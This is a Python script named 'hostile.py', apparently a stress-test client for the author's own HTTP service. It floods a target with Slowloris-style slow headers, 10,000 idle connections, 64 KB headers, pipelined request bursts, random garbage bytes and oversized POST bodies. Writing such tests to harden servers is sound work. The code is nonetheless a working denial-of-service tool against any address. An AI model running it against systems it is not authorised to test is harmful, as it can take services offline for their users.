#!/usr/bin/env python3
"""hostile.py ADDRESS PORT WHAT SECONDS: a client that means no good.

loris: requests that never end, a byte now and then; many: 10,000
connections; giant: headers without end; pipeline: thousands of requests in
one go, no answer read; garbage: bytes that are no HTTP. Says what it got.
"""
import os
import random
import resource
import selectors
import socket
import sys
import time

ADDRESS, PORT, WHAT, SECONDS = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 12000), hard))
END = time.time() + SECONDS


def connect():
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect((ADDRESS, PORT))
    except BlockingIOError:
        pass
    return s


def send(s, data):
    try:
        return s.send(data)
    except BlockingIOError:
        return 0
    except OSError:
        return -1


def hold(n, first, more):
    """n connections, each says first, then more every half second."""
    socks, made, lost = [], 0, 0
    while time.time() < END:
        while len(socks) < n and time.time() < END:
            try:
                socks.append([connect(), False])
                made += 1
            except OSError:
                break
            if made % 500 == 0:
                time.sleep(0.02)
        for pair in socks:
            r = send(pair[0], more if pair[1] else first)
            pair[1] |= r > 0
            if r < 0:
                pair[0].close()
                lost += 1
                pair[0] = None
        socks = [p for p in socks if p[0]]
        time.sleep(0.5)
    print("%s: %d connections, %d were ended" % (WHAT, made, lost))


def flood(data):
    """As much as it takes, reading nothing, again and again."""
    sent = rounds = 0
    while time.time() < END:
        s = connect()
        rounds += 1
        until = min(END, time.time() + 1)
        while time.time() < until:
            r = send(s, data)
            if r < 0:
                break
            sent += r
            if r == 0:
                time.sleep(0.01)
        s.close()
    print("%s: %d connections, %d bytes taken" % (WHAT, rounds, sent))


if WHAT == "loris":
    hold(2000, b"GET /v1/decisions HTTP/1.1\r\nHost: x\r\nX-A: ", b"a")
elif WHAT == "many":
    hold(10000, b"", b"")
elif WHAT == "giant":
    flood(b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-Long: " + b"a" * 65536 + b"\r\n")
elif WHAT == "pipeline":
    flood(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n" * 500)
elif WHAT == "garbage":
    random.seed(7)
    flood(bytes(random.randrange(256) for _ in range(65536)))
elif WHAT == "bodies":
    flood(b"POST /v1/watchers/login HTTP/1.1\r\nHost: x\r\nContent-Length: 999999999\r\n\r\n" + b"a" * 65536)
